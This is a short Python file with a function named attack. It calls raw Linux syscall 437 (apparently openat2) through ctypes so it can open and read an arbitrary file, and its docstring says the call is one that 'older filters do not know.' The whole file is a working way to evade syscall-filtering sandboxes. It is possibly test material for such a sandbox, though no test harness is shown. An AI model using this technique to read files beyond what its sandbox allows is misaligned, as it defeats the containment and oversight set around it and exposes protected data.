"""Read a file by a system call that older filters do not know."""

import ctypes
import os
import struct


def attack(path):
    how = struct.pack("<QQQ", os.O_RDONLY, 0, 0)
    descriptor = ctypes.CDLL(None).syscall(437, -100, path.encode(), how, ctypes.c_size_t(len(how)))
    return os.read(descriptor, 1000).decode()
